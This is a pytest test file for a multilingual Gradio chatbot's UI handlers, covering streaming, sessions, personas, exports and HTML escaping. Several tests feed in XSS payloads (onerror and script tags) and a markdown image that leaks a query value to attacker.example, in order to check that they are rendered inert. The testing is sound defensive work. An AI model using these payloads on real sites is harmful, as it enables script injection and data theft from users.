"""The UI's handlers without ``launch()``: real engine, real personas, no browser."""

from __future__ import annotations

import json
import re
import threading
import time
from pathlib import Path

import gradio as gr
import pytest
from chatbot.ui import handlers
from chatbot.ui.handlers import AUTO, Backend, Turn

from chatbot.config import Sampling, Settings
from chatbot.persona.registry import PersonaRegistry
from chatbot.stream.events import Notice
from tests.conftest import make_engine


@pytest.fixture(scope="module")
def backend(tiny_model: Path, tmp_path_factory: pytest.TempPathFactory) -> Backend:
    engine = make_engine(tiny_model, n_ctx=8192)
    registry = PersonaRegistry(tmp_path_factory.mktemp("personas"), entry_points=False)
    settings = Settings(seed=3, sampling=Sampling(max_tokens=24), max_message_chars=500)
    return Backend(engine=engine, registry=registry, settings=settings)


def unmarked(text: str) -> str:
    """Server-made text without the language marks of the names and words it quotes."""
    return re.sub(r'<span lang="[^"]+">(.*?)</span>', r"\1", text)


def ask(backend: Backend, sid: str, text: str, persona: str = "ja-hotel-concierge", **kw: object):
    messages = [*handlers.greeting(backend, persona), {"role": "user", "content": text}]
    turn = Turn()
    views = list(handlers.respond(backend, sid, messages, persona, turn=turn, **kw))  # type: ignore[arg-type]
    return views, turn


def test_a_reply_streams_in_throttled_views_and_ends_with_its_badge(backend: Backend) -> None:
    views, turn = ask(backend, "s1", "部屋を予約したいのですが。")
    final = views[-1]
    # Each text marked with its language for the browser: the persona's greeting, the
    # question (as read in it), the reply (as planned).
    assert final[0]["content"].startswith('<div lang="ja">\n\nいらっしゃいませ')
    assert final[1] == {"role": "user", "content": '<div lang="ja">\n\n部屋を予約したいのですが。'}
    reply = final[2]
    assert reply["role"] == "assistant" and "metadata" not in reply
    assert reply["content"].startswith('<div lang="ja">\n\n') and handlers.plain(reply["content"])
    badge = final[-1]
    assert badge["metadata"]["title"][0] in "✓≈⚠?"
    assert 'Target: <span lang="ja">敬語' in badge["content"]  # the level named as Japanese
    assert turn.locale == "ja" and turn.detected == "ja" and turn.verdict is not None
    assert turn.done is not None and 0 < turn.done.completion_tokens <= 24
    # Throttled: far fewer screen updates than tokens, and never empty text as a reply.
    assert len(views) <= turn.done.completion_tokens + 2


def test_dialogue_leaves_out_badges_and_notices(backend: Backend) -> None:
    views, _ = ask(backend, "s2", "こんにちは")
    assert [m["role"] for m in handlers.dialogue(views[-1])] == ["assistant", "user", "assistant"]


def test_tabs_never_share_a_conversation(backend: Backend) -> None:
    ask(backend, "tab-a", "Aの質問です。")
    ask(backend, "tab-b", "Bの質問です。")
    a = backend.sessions.get("tab-a").chat
    b = backend.sessions.get("tab-b").chat
    assert a is not None and b is not None and a is not b
    assert [t.user for t in a.conversation.turns] == ["Aの質問です。"]
    assert [t.user for t in b.conversation.turns] == ["Bの質問です。"]


def _long_replies(backend: Backend) -> Backend:
    """The same engine and personas, replying at length and without retries."""
    return Backend(
        engine=backend.engine,
        registry=backend.registry,
        settings=Settings(sampling=Sampling(max_tokens=400), enforce_register=False),
    )


def test_stop_ends_the_reply_early_and_keeps_it(backend: Backend, tiny_model: Path) -> None:
    long = _long_replies(backend)
    messages = [{"role": "user", "content": "Tell me everything."}]
    turn = Turn()
    stream = handlers.respond(long, "stopper", messages, "en-neutral-assistant", turn=turn)
    next(stream)
    threading.Timer(0.05, handlers.stop, args=(long, "stopper")).start()
    final = list(stream)[-1]
    assert turn.done is not None and turn.done.finish_reason == "cancelled"
    assert turn.done.completion_tokens < 400
    assert final[1]["content"].endswith(" …")


def test_a_reply_stopped_before_it_began_leaves_no_bubble_and_is_asked_again(
    backend: Backend,
) -> None:
    # Stopped while it waited in line: a "…" bubble stayed as the answer, with a
    # badge of nothing, and was sent to the model as the answer next turn.
    messages = [{"role": "user", "content": "First question."}]
    turn = Turn()
    lock = backend.engine.lock
    holder = lock.join()
    assert lock.wait(holder, 5)  # someone else is generating
    try:
        stream = handlers.respond(
            backend, "early-stop", messages, "en-neutral-assistant", turn=turn
        )
        next(stream)  # waiting in line
        handlers.stop(backend, "early-stop")
    finally:
        lock.leave(holder)
    final = list(stream)[-1]
    assert turn.done is not None and turn.done.finish_reason == "cancelled"
    assert turn.done.completion_tokens == 0
    assert handlers.dialogue(final) == messages and len(final) == 1  # no reply, no badge
    following = [*final, {"role": "user", "content": "Second one."}]
    list(handlers.respond(backend, "early-stop", following, "en-neutral-assistant"))
    chat = backend.sessions.get("early-stop").chat
    assert chat is not None
    assert [t.user for t in chat.conversation.turns] == ["First question.\n\nSecond one."]


def test_a_tab_is_replying_from_the_accepted_message_to_the_end_of_its_reply(
    backend: Backend,
) -> None:
    long = _long_replies(backend)
    sid = "busy-tab"
    assert not handlers.replying(long, sid) and not handlers.claim(long, sid)
    handlers.accepted(long, sid)
    assert handlers.replying(long, sid)  # accepted, its reply not started yet
    assert handlers.claim(long, sid) and not handlers.claim(long, sid)  # answered once
    stream = handlers.respond(
        long, sid, [{"role": "user", "content": "Hi."}], "en-neutral-assistant"
    )
    next(stream)
    assert handlers.replying(long, sid)  # the reply runs
    handlers.stop(long, sid)
    assert not handlers.replying(long, sid)  # a stopped reply holds nobody back
    list(stream)
    assert not handlers.replying(long, sid) and not handlers.claim(long, sid)
    handlers.accepted(long, sid)
    handlers.abandon(long, sid, [])  # Edit or Regenerate before that reply started
    assert not handlers.replying(long, sid)


def test_regenerate_and_edit_undo_the_last_turn(backend: Backend) -> None:
    views, _ = ask(backend, "s3", "最初の質問です。")
    shown = views[-1]
    again = handlers.undo_last_reply(shown)
    assert again[-1] == {"role": "user", "content": '<div lang="ja">\n\n最初の質問です。'}
    list(handlers.respond(backend, "s3", again, "ja-hotel-concierge"))
    chat = backend.sessions.get("s3").chat
    assert chat is not None and len(chat.conversation.turns) == 1  # replaced, not appended
    text, before = handlers.take_last_message(shown)
    assert text == "最初の質問です。" and before == shown[:1]


def test_the_next_turn_reuses_the_session_despite_gradios_whitespace(backend: Backend) -> None:
    views, _ = ask(backend, "cleandoc", "一つ目です。")
    chat = backend.sessions.get("cleandoc").chat
    assert chat is not None
    chat.conversation.turns[-1].reply = "  はい。\n    承知しました。\n"  # as the model wrote it
    shown = [*views[-1][:2], {"role": "assistant", "content": "はい。\n承知しました。"}]
    messages = [*shown, {"role": "user", "content": "二つ目です。"}]
    list(handlers.respond(backend, "cleandoc", messages, "ja-hotel-concierge"))
    assert backend.sessions.get("cleandoc").chat is chat
    assert [t.user for t in chat.conversation.turns] == ["一つ目です。", "二つ目です。"]
    # Kept as generated (its tokens are in the KV cache), not rebuilt from the display.
    assert chat.conversation.turns[0].reply == "  はい。\n    承知しました。\n"


def test_the_users_name_fills_the_personas_form_of_address(backend: Backend) -> None:
    ask(backend, "named", "予約を確認したいです。", name="田中 太郎")
    chat = backend.sessions.get("named").chat
    assert chat is not None and chat.conversation.system is not None
    assert 'Address the user as "田中様"' in chat.conversation.system  # {surname}様
    ask(backend, "unnamed", "予約を確認したいです。")
    plain = backend.sessions.get("unnamed").chat
    assert plain is not None and "お客様" in str(plain.conversation.system)


def test_a_reloaded_page_rebuilds_its_session_from_the_shown_history(backend: Backend) -> None:
    views, _ = ask(backend, "before-reload", "一つ目です。")
    shown = views[-1]
    backend.sessions.drop("before-reload")  # what a reload (new session) looks like
    messages = [*shown, {"role": "user", "content": "二つ目です。"}]
    list(handlers.respond(backend, "after-reload", messages, "ja-hotel-concierge"))
    chat = backend.sessions.get("after-reload").chat
    assert chat is not None
    assert [t.user for t in chat.conversation.turns] == ["一つ目です。", "二つ目です。"]


def test_a_question_left_unanswered_by_a_reload_is_asked_with_the_next(backend: Backend) -> None:
    # Saved when sent, the question outlives a reload that cut its reply off; the
    # next message must not leave it out of the model's context.
    greeting = handlers.greeting(backend, "ja-hotel-concierge")
    messages = [
        *greeting,
        {"role": "user", "content": "一つ目です。"},
        {"role": "user", "content": "二つ目です。"},
    ]
    list(handlers.respond(backend, "reloaded", messages, "ja-hotel-concierge"))
    chat = backend.sessions.get("reloaded").chat
    assert chat is not None
    assert [t.user for t in chat.conversation.turns] == ["一つ目です。\n\n二つ目です。"]
    # Rebuilt from the screen (another reload), the two are still one turn.
    shown = [*messages, {"role": "assistant", "content": "はい。"}]
    backend.sessions.drop("reloaded")
    list(
        handlers.respond(
            backend,
            "again",
            [*shown, {"role": "user", "content": "三つ目。"}],
            "ja-hotel-concierge",
        )
    )
    chat = backend.sessions.get("again").chat
    assert chat is not None
    assert [t.user for t in chat.conversation.turns] == ["一つ目です。\n\n二つ目です。", "三つ目。"]


def test_a_question_that_got_a_notice_instead_of_a_reply_stays_out_of_the_history(
    backend: Backend,
) -> None:
    # Busy, then sent again and answered: the model never had the first one.
    greeting = handlers.greeting(backend, "ja-hotel-concierge")
    notice = {"role": "assistant", "content": "", "metadata": {"title": "⚠ busy"}}
    shown = [
        *greeting,
        {"role": "user", "content": "一つ目です。"},
        notice,
        {"role": "user", "content": "一つ目です。"},
        {"role": "assistant", "content": "はい。"},
        {"role": "user", "content": "二つ目です。"},
    ]
    list(handlers.respond(backend, "after-busy", shown, "ja-hotel-concierge"))
    chat = backend.sessions.get("after-busy").chat
    assert chat is not None
    assert [t.user for t in chat.conversation.turns] == ["一つ目です。", "二つ目です。"]
    # An unanswered question too long to go with the next one is left on the screen.
    long = "長" * (backend.max_message_chars - 2)
    unanswered = [
        *greeting,
        {"role": "user", "content": long},
        {"role": "user", "content": "短い。"},
    ]
    views = list(handlers.respond(backend, "long-left", unanswered, "ja-hotel-concierge"))
    chat = backend.sessions.get("long-left").chat
    assert chat is not None
    assert [t.user for t in chat.conversation.turns] == ["短い。"]
    # ... and the next turn's history says so too: the session goes on, not rebuilt.
    session = chat
    following = [*handlers.dialogue(views[-1]), {"role": "user", "content": "次。"}]
    list(handlers.respond(backend, "long-left", following, "ja-hotel-concierge"))
    assert backend.sessions.get("long-left").chat is session
    assert [t.user for t in session.conversation.turns] == ["短い。", "次。"]


def test_levels_are_offered_under_native_names_within_the_persona_range(backend: Backend) -> None:
    mirror = handlers.level_choices(backend, "ja-stationery-shop", None)
    assert mirror[0][1] == AUTO
    assert [v for _, v in mirror[1:]] == ["polite", "honorific"]
    assert mirror[1][0].startswith("丁寧語") and mirror[2][0].startswith("敬語")
    fixed = handlers.level_choices(backend, "ko-bank-clerk", None)
    assert [v for _, v in fixed] == ["hasipsioche"]


def test_levels_are_named_as_the_browsers_variety_names_them(backend: Backend) -> None:
    # Portugal's names by default; a pt-BR browser's Brazil's (você, not tu). A
    # variety of another language leaves a persona's names alone.
    european = dict((v, n) for n, v in handlers.level_choices(backend, "pt-bookshop", None))
    brazilian = dict(
        (v, n) for n, v in handlers.level_choices(backend, "pt-bookshop", None, "pt.brazil")
    )
    assert european["informal"] == "Tratamento por tu"
    assert brazilian["informal"] == "Tratamento por você"
    assert "Tratamento por você" in brazilian[AUTO] and "tu" not in brazilian[AUTO]
    assert handlers.level_choices(backend, "ja-stationery-shop", None, "pt.brazil") == (
        handlers.level_choices(backend, "ja-stationery-shop", None)
    )
    from chatbot.ui.app import _pickers

    _, levels, _ = _pickers(backend, "pt-bookshop", None, None, "pt-BR")
    assert ("Tratamento por você", "informal") in levels


def test_chosen_level_and_language_steer_the_plan(backend: Backend) -> None:
    _, turn = ask(
        backend, "s4", "ボールペンある？", persona="ja-stationery-shop", level_choice="honorific"
    )
    assert turn.verdict is not None and turn.verdict.plan.level == "honorific"
    _, mirrored = ask(backend, "s5", "ボールペンある？", persona="ja-stationery-shop")
    assert (
        mirrored.verdict is not None and mirrored.verdict.plan.level == "polite"
    )  # casual -> floor


def test_bad_input_is_refused_with_the_limit_or_ignored(backend: Backend) -> None:
    assert handlers.check_message(backend, "ok") is None
    problem = handlers.check_message(backend, "x" * 501)
    assert problem is not None and "501 characters; the limit is 500" in problem
    # No new user message: nothing to answer.
    assert (
        list(handlers.respond(backend, "s6", handlers.greeting(backend, "fr-friend"), "fr-friend"))
        == []
    )


def test_exports_and_status(backend: Backend) -> None:
    views, _ = ask(backend, "s7", "質問です。")
    data = json.loads(handlers.export_json(views[-1], "ja-hotel-concierge"))
    assert (
        data["persona"] == "ja-hotel-concierge" and data["messages"][1]["content"] == "質問です。"
    )
    md = handlers.export_markdown(views[-1], "ja-hotel-concierge")
    assert "**You**: 質問です。" in md and "> **" in md  # the badge, quoted
    # In the UI's language, under the persona's name (it said "Conversation with
    # ja-hotel-concierge", "**Assistant**" in every language).
    japanese = handlers.export_markdown(views[-1], "ja-hotel-concierge", "コンシェルジュ", "ja")
    assert japanese.startswith("# コンシェルジュ との会話") and "**あなた**: 質問です。" in japanese
    assert "**コンシェルジュ**: " in japanese
    status = handlers.model_status(backend.engine)
    assert "random weights" in status and "noise" in status


def test_server_made_text_follows_the_ui_language(backend: Backend) -> None:
    views, turn = ask(backend, "s-ja-ui", "部屋を予約したいのですが。", language="ja")
    badge = views[-1][-1]
    assert (
        badge["content"].startswith('目標：<span lang="ja">敬語') and "判定：" in badge["content"]
    )
    assert "Target" not in badge["content"]
    status = handlers.model_status(backend.engine, turn.done, "ko")
    assert "합성 데모 모델" in status and "컨텍스트" in status
    queued = Notice("queued", "Waiting for the model: 2 ahead.", {"ahead": 2})
    assert handlers.notice_text(queued, "de") == "Warten auf das Modell: 2 vor Ihnen."
    retry = Notice(
        "retry", "Reply off register; retrying (1).", {"attempt": 1, "reason": "register"}
    )
    assert "1 回目" in handlers.notice_text(retry, "ja")
    assert handlers.notice_text(retry, "xx") == "Reply off register; retrying (1)."
    bare = Notice("queued", "Waiting for the model: 2 ahead.")  # no arguments: the English text
    assert handlers.notice_text(bare, "ja") == bare.message
    assert turn.verdict is not None
    german = handlers.badge(turn.verdict, "de")["content"]
    assert re.search(r"Konfidenz \d,\d\d", german), german  # 0,60 as German writes it
    assert re.search(r"confidence \d\.\d\d", handlers.badge(turn.verdict, "en")["content"])


def test_waiting_users_see_their_place_and_a_full_line_says_busy(backend: Backend) -> None:
    lock = backend.engine.lock
    holder = lock.join()
    assert lock.wait(holder, 5)  # someone else is generating
    try:
        messages = [{"role": "user", "content": "Hello?"}]
        waiting = handlers.respond(backend, "queued", messages, "en-neutral-assistant")
        first = next(waiting)
        titles = [(m.get("metadata") or {}).get("title", "") for m in first]
        assert "Waiting for the model: 1 ahead." in titles
        lock.max_waiting = 1  # the line is now full: the next user is told, not queued
        busy = list(handlers.respond(backend, "busy", messages, "en-neutral-assistant"))[-1]
        titles = [(m.get("metadata") or {}).get("title", "") for m in busy]
        assert any("server is busy: 1 already waiting" in t for t in titles)
        turn = Turn()
        german = handlers.respond(
            backend, "busy", messages, "en-neutral-assistant", turn=turn, language="de"
        )
        titles = [(m.get("metadata") or {}).get("title", "") for m in list(german)[-1]]
        assert any("Der Server ist ausgelastet (1 warten bereits)" in t for t in titles)
        # A screen reader is told too, in the UI's language.
        assert turn.announcement.startswith('<div lang="de">\n\n⚠ Der Server ist ausgelastet')
    finally:
        lock.max_waiting = None
        lock.leave(holder)
    final = list(waiting)[-1]  # the waiting user is served once the model is free
    assert final[-1]["metadata"]["title"][0] in "✓≈⚠?"


def test_an_ended_reply_is_announced_once_with_its_badges_title(backend: Backend) -> None:
    views, turn = ask(backend, "told", "部屋を予約したいのですが。", language="en")
    reply, badge = views[-1][2], views[-1][-1]
    # Only the reply's last view is announced: the reply, then its badge's title in the
    # UI's language (the marks nest, the later one holding what follows it).
    said = f'{reply["content"]}\n\n<div lang="en">\n\n{badge["metadata"]["title"]}'
    assert turn.announcement == said and reply["content"].startswith('<div lang="ja">')
    # Reasoning is not announced, and a code fence a reply left open is closed, so
    # that the badge's title is not read out as code.
    thought = {"role": "assistant", "content": "hmm", "metadata": {"title": "Thinking"}}
    cut = {"role": "assistant", "content": "Try:\n```py\nprint(1) …"}
    told = handlers.announcement([{"role": "user", "content": "?"}, thought, cut, badge], "ja")
    assert told == f'{cut["content"]}\n```\n\n<div lang="ja">\n\n{badge["metadata"]["title"]}'


def test_a_messages_language_mark_is_for_the_screen_only(backend: Backend) -> None:
    from types import SimpleNamespace

    from chatbot.ui.app import create_app

    question = "東京駅への行き方を教えてください。"
    views, _ = ask(backend, "marks", question)
    shown = views[-1]
    assert shown[1]["content"] == f'<div lang="ja">\n\n{question}'
    # Not for the model, Edit, the exports ...
    assert handlers.dialogue(shown)[1] == {"role": "user", "content": question}
    assert handlers.take_last_message(shown)[0] == question
    exports = handlers.export_json(shown, "p") + handlers.export_markdown(shown, "p")
    assert "lang=" not in exports and question in exports
    # ... nor the saved history, which keeps each text's language beside it.
    persist = {f.fn.__name__: f.fn for f in create_app(backend).fns.values() if f.fn}["_persist"]
    request = SimpleNamespace(session_hash="marks", headers={"accept-language": "en"})
    state = persist(shown, "ja-hotel-concierge", AUTO, AUTO, False, "", None, request)[0]
    assert state["messages"][1] == {"role": "user", "content": question, "lang": "ja"}
    assert all('<div lang="' not in m["content"] for m in state["messages"])
    assert handlers.from_saved(state["messages"]) == handlers.normalize(shown)


@pytest.mark.parametrize(
    "text",
    [
        '<div lang="ja">\n\nhello',  # a mark of one's own, made inert like any HTML
        'x\n\n</div><div lang="xx" onclick="alert(1)">\n\ny',
        '```\n<div lang="xx">\n\n</div>\n```',  # code is shown as written, never a mark
    ],
)
def test_a_user_cannot_write_a_language_mark(text: str) -> None:
    shown = handlers.inert(text)
    assert handlers.language_of(shown) == (shown, None)
    marked = handlers.in_language(shown, "en")
    assert handlers.language_of(marked) == (shown, "en") and handlers.plain(marked) == text
    # A language from elsewhere (a saved history) that is not a language tag marks nothing.
    assert handlers.in_language("x", 'en" onclick="alert(1)') == "x"
    assert handlers.from_saved([{"role": "user", "content": "x", "lang": '"><img'}])[0] == {
        "role": "user",
        "content": "x",
    }


def test_html_in_messages_is_shown_as_text_and_given_back_as_written() -> None:
    attack = '<img src=x onerror="alert(1)"><script>alert(2)</script> 1 < 2 and a<b'
    shown = handlers.inert(attack)
    assert "<img" not in shown and "<script" not in shown and "</script" not in shown
    assert "1 < 2" in shown  # a lone "<" is left alone
    assert handlers.plain(shown) == attack
    messages = [{"role": "user", "content": shown}]
    assert handlers.dialogue(messages)[0]["content"] == attack
    assert json.loads(handlers.export_json(messages, "p"))["messages"][0]["content"] == attack


@pytest.mark.parametrize(
    ("text", "exact"),
    [
        # Code shows HTML as text anyway: left exact, so its copy button copies it.
        ('```html\n<div class="a">x</div>\n```\nand <b>bold</b>', '<div class="a">x</div>'),
        ("use `<br>` here <img src=x>", "`<br>`"),
        ("```\n<img onerror=1>", "<img onerror=1>"),  # a fence still open runs to the end
        ("````\ncode\n```\n<img x>", "<img x>"),  # a shorter fence closes nothing
    ],
)
def test_code_in_messages_is_left_exact(text: str, exact: str) -> None:
    shown = handlers.inert(text)
    assert exact in shown and handlers.plain(shown) == text


@pytest.mark.parametrize(
    ("text", "tag"),
    [
        ("```\ncode\n```\n<img x>", "img x>"),  # after the fence closed: prose again
        ("```a`b\n<img onerror=1>", "img onerror"),  # such an info string opens no fence
        ("\\`<img onerror=1>`", "img onerror"),  # an escaped backtick opens no code span
        ("~~~\n<b>\n~~~~\n<i>", "i>"),
        # An indented fence belongs to the list item (or quote) and ends with it: what
        # follows is prose, rendered (a review got a live image and form through).
        ("1. Answer questions\n   ```\n<img src=x style=position:fixed>", "img src"),
        ("> ```\n<form action=y>", "form"),
        ("```\n<b>\n```\r\n<img x>", "img x>"),  # a closing fence before \r\n
    ],
)
def test_what_only_looks_like_code_is_still_made_inert(text: str, tag: str) -> None:
    shown = handlers.inert(text)
    assert "<\u200b" + tag in shown and handlers.plain(shown) == text


def test_the_thinking_switch_needs_a_thinking_model_and_a_persona_that_allows_it(
    tiny_qwen3_model: Path, backend: Backend
) -> None:
    from chatbot.ui.app import _thinking_allowed

    assert not _thinking_allowed(backend, "en-neutral-assistant")  # Qwen2.5 template: no switch
    qwen3 = Backend(
        engine=make_engine(tiny_qwen3_model), registry=backend.registry, settings=backend.settings
    )
    assert _thinking_allowed(qwen3, "en-neutral-assistant")
    assert not _thinking_allowed(qwen3, "ja-hotel-concierge")  # the persona keeps it off


def as_gradio(messages: list[dict[str, object]]) -> list[dict[str, object]]:
    """Messages as Gradio 6's Chatbot hands them to a handler: content is a list of parts."""
    return [
        {
            "role": m["role"],
            "metadata": m.get("metadata"),
            "content": [{"text": m["content"], "type": "text"}],
            "options": None,
        }
        for m in messages
    ]


def test_messages_in_gradios_content_part_form_are_read_as_text(backend: Backend) -> None:
    views, _ = ask(backend, "parts-1", "一つ目の質問です。")
    shown = as_gradio([*views[-1], {"role": "user", "content": "二つ目の質問です。"}])
    final = list(handlers.respond(backend, "parts-1", shown, "ja-hotel-concierge"))[-1]
    chat = backend.sessions.get("parts-1").chat
    assert chat is not None
    # The model is asked the text itself, with the earlier turn kept as history.
    assert [t.user for t in chat.conversation.turns] == ["一つ目の質問です。", "二つ目の質問です。"]
    assert all(isinstance(m["content"], str) for m in final)

    text, before = handlers.take_last_message(shown)
    assert text == "二つ目の質問です。" and len(before) == len(shown) - 1
    assert handlers.plain(handlers.undo_last_reply(as_gradio(final))[-1]["content"]) == (
        "二つ目の質問です。"
    )
    assert [m["content"] for m in handlers.dialogue(shown)][1] == "一つ目の質問です。"

    data = json.loads(handlers.export_json(as_gradio(final), "ja-hotel-concierge"))
    assert all(isinstance(m["content"], str) for m in data["messages"])
    assert data["messages"][1] == {"role": "user", "content": "一つ目の質問です。"}
    md = handlers.export_markdown(as_gradio(final), "ja-hotel-concierge")
    assert "**You**: 二つ目の質問です。" in md and "'text'" not in md


def test_markdown_images_in_messages_are_not_loaded() -> None:
    attack = "look ![pixel](http://attacker.example/p.png?q=secret) and ![r][ref]"
    shown = handlers.inert(attack)
    assert "![" not in shown  # no image syntax left: nothing is fetched
    assert handlers.plain(shown) == attack


def test_regenerate_waits_for_the_replaced_reply_and_keeps_it_out_of_context(
    backend: Backend, monkeypatch: pytest.MonkeyPatch
) -> None:
    long = _long_replies(backend)
    sid, pid = "regenerated", "en-neutral-assistant"
    asked = [{"role": "user", "content": "Tell me everything."}]
    first, go, reconciled = threading.Event(), threading.Event(), []
    real_session = handlers._session

    def watched(*args: object, **kwargs: object) -> object:
        reconciled.append(time.monotonic())
        return real_session(*args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(handlers, "_session", watched)

    replaced_views: list[list[dict[str, object]]] = []

    def replaced() -> None:
        stream = handlers.respond(long, sid, asked, pid)
        next(stream)
        first.set()
        go.wait(30)  # its next token comes only once the regenerate has had its chance
        replaced_views.extend(stream)

    a = threading.Thread(target=replaced)
    a.start()
    assert first.wait(30) and len(reconciled) == 1
    handlers.abandon(long, sid, handlers.undo_last_reply(asked))  # Regenerate clicked
    views: list[list[dict[str, object]]] = []
    b = threading.Thread(
        target=lambda: views.extend(
            handlers.respond(long, sid, handlers.undo_last_reply(asked), pid)
        )
    )
    b.start()
    # Without the tab's turn lock the regenerate reconciles its session at once, before
    # the replaced reply has added its turn; with it, it waits for that reply to end.
    deadline = time.monotonic() + 2
    while len(reconciled) < 2 and time.monotonic() < deadline:
        time.sleep(0.02)
    waited = len(reconciled) == 1
    go.set()
    a.join(60)
    b.join(120)
    assert waited, "the regenerate read the session while the replaced reply was running"
    assert replaced_views == [handlers.undo_last_reply(asked)]  # it ends on what replaced it
    chat = long.sessions.get(sid).chat
    assert chat is not None and views
    # One turn: the regenerated reply, built without the replaced one in its context.
    assert [t.user for t in chat.conversation.turns] == ["Tell me everything."]
    shown = handlers.plain(views[-1][1]["content"])
    assert chat.conversation.turns[0].reply == shown.removesuffix(" …")


def test_a_reply_that_cannot_get_its_turn_says_so(
    backend: Backend, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(handlers, "TURN_WAIT_S", 0.3)
    ui = backend.sessions.get("stuck")
    assert ui.turn_lock.acquire()  # a previous reply of this tab that will not end
    try:
        views = list(
            handlers.respond(
                backend, "stuck", [{"role": "user", "content": "Hi"}], "en-neutral-assistant"
            )
        )
    finally:
        ui.turn_lock.release()
    title = views[-1][-1]["metadata"]["title"]
    assert "previous reply is still being written" in title


def test_an_abandoned_reply_stops_and_ends_on_what_replaced_it(backend: Backend) -> None:
    # The page takes in each event's views in order, but not in order across events:
    # a view the reply sent before it was replaced (Clear, a new persona, Edit,
    # Regenerate) may land after what replaced it, so the reply's last view is that.
    long = _long_replies(backend)
    messages = [{"role": "user", "content": "Tell me everything."}]
    turn = Turn()
    stream = handlers.respond(long, "abandoned", messages, "en-neutral-assistant", turn=turn)
    next(stream)
    edited = [{"role": "assistant", "content": "Hello! How can I help you today?"}]
    assert handlers.abandon(long, "abandoned", edited) is edited
    assert list(stream) == [edited]  # not its own final view: only what replaced it
    assert turn.announcement == ""  # nothing of the stopped reply is announced
    chat = long.sessions.get("abandoned").chat
    assert chat is not None and chat.conversation.turns
    # Stopped within a few tokens of being replaced, far short of its 400.
    assert len(chat.conversation.turns[-1].reply_tokens) < 50
    # A later reply is not replaced by it: it was shown before that reply began.
    again = handlers.respond(long, "abandoned", messages, "en-neutral-assistant", turn=Turn())
    next(again)
    handlers.stop(long, "abandoned")
    final = list(again)[-1]  # its own last view: the stopped reply, cut off
    assert final[0]["role"] == "user" and final[1]["content"].endswith(" …")


def test_an_over_long_message_is_refused_by_the_reply_handler_itself(backend: Backend) -> None:
    # Gradio serves ``reply`` at /gradio_api/call/reply: no ``submit`` check runs before it.
    messages = [{"role": "user", "content": "x " * 300}]
    turn = Turn()
    views = list(handlers.respond(backend, "s-long", messages, "en-neutral-assistant", turn=turn))
    assert len(views) == 1 and turn.done is None
    assert "600 characters; the limit is 500" in views[-1][-1]["metadata"]["title"]


def test_persona_and_reply_text_outside_the_message_is_shown_as_text(
    backend: Backend, tmp_path: Path
) -> None:
    from chatbot.check.avoid import Avoided
    from chatbot.check.guard import Verdict
    from chatbot.detect.register.reading import Evidence, Reading
    from chatbot.plan.policy import Plan
    from tests.persona.test_persona_files import GOOD, write

    attack = '<img src=x onerror="alert(1)"> ![p](http://attacker.example/p.png)'
    card = GOOD.format(id="card-shop").replace(
        "greeting: Guten Tag! Wie kann ich Ihnen helfen?", f"greeting: '{attack}'"
    )
    write(tmp_path, "card-shop", card)
    registry = PersonaRegistry(tmp_path, entry_points=False)
    local = Backend(engine=backend.engine, registry=registry, settings=backend.settings)
    shown = handlers.greeting(local, "card-shop", "de")[0]["content"]
    assert "<img" not in shown and "![" not in shown and handlers.plain(shown) == attack
    reading = Reading(
        "de",
        "formal",
        "formal",
        0.9,
        evidence=(Evidence(attack, 0, len(attack), "formal", "de.sie"),),
    )
    verdict = Verdict(
        Plan("de", "formal", "test"),
        reading,
        "on_target",
        0,
        False,
        avoided=(Avoided(attack, attack, 0, len(attack)),),
    )
    badge = handlers.badge(verdict)
    # Evidence is quoted in code spans, which show it as text (and copy it exact);
    # everywhere else it is made inert.
    prose = re.sub(r"`[^`\n]+`", "", badge["content"])
    for text in (prose, badge["metadata"]["title"]):
        assert "<img" not in text and "![" not in text
    assert f"`{attack}`" in badge["content"]
    notice = handlers._notice(f"⚠ {attack}")
    assert "<img" not in notice["metadata"]["title"]
    md = handlers.export_markdown([badge], "card-shop")
    assert attack in md  # exports keep the text as written


def test_gradios_copies_of_the_exports_are_kept_where_only_the_server_can_read(
    backend: Backend, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Gradio serves a download from a copy in its cache, /tmp/gradio by default,
    # readable by every user of the machine (a review read whole conversations there).
    import os
    import stat

    from chatbot.ui.app import create_app

    monkeypatch.delenv("GRADIO_TEMP_DIR", raising=False)
    demo = create_app(backend)
    cache = Path(os.environ["GRADIO_TEMP_DIR"])
    assert stat.S_IMODE(cache.stat().st_mode) == 0o700
    assert str(cache) == demo.GRADIO_CACHE
    monkeypatch.setenv("GRADIO_TEMP_DIR", "/srv/chosen")  # an operator's choice holds
    assert create_app(backend).GRADIO_CACHE == "/srv/chosen"


def test_apps_leave_no_folders_behind(tiny_model: Path, tmp_path: Path) -> None:
    # Every app made its export folder, and an unused cache folder, in /tmp and
    # never removed them: a test run left hundreds.
    import os
    import subprocess
    import sys

    script = f"""
from pathlib import Path
from chatbot.config import Settings
from chatbot.generate.engine import Engine
from chatbot.persona.registry import PersonaRegistry
from chatbot.ui.app import create_app
from chatbot.ui.handlers import Backend

engine = Engine(Path({str(tiny_model)!r}), Settings(n_ctx=512, threads=1))
registry = PersonaRegistry(Path({str(tmp_path / "personas")!r}), entry_points=False)
backend = Backend(engine=engine, registry=registry, settings=Settings())
first, second = create_app(backend), create_app(backend)
print(sorted(p.name.rsplit("-", 1)[0] for p in Path({str(tmp_path)!r}).glob("chatbot-[eg]*")))
"""
    env = {k: v for k, v in os.environ.items() if k != "GRADIO_TEMP_DIR"}
    env["TMPDIR"] = str(tmp_path)
    done = subprocess.run(
        [sys.executable, "-c", script], env=env, capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr[-2000:]
    # While it ran: one export folder per app, one cache folder for the process.
    assert done.stdout.strip().splitlines()[-1] == str(
        ["chatbot-export", "chatbot-export", "chatbot-gradio"]
    )
    assert not list(tmp_path.glob("chatbot-[eg]*"))


def test_export_files_are_not_named_by_the_client_session_hash() -> None:
    names = {handlers.export_name(h) for h in ("abc", "abc.d", "../../etc/x", "a" * 5000)}
    assert len(names) == 4
    assert all(re.fullmatch(r"conversation-[0-9a-f]{16}", n) for n in names)


def test_the_badge_names_a_wrong_language_and_a_reply_that_shows_no_level() -> None:
    from chatbot.check import Verdict
    from chatbot.detect.register.reading import Reading
    from chatbot.plan import Plan

    plan = Plan("de", "informal", "test")
    plain = Reading("de", "formal", "formal", 0.2, reason="no register marker found")
    unread = handlers.badge(Verdict(plan, plain, "unread", 0, False))
    assert unread["metadata"]["title"] == "? Nothing in the reply shows its register"
    # ... and the line under it names no level either (it said "read: Siezen").
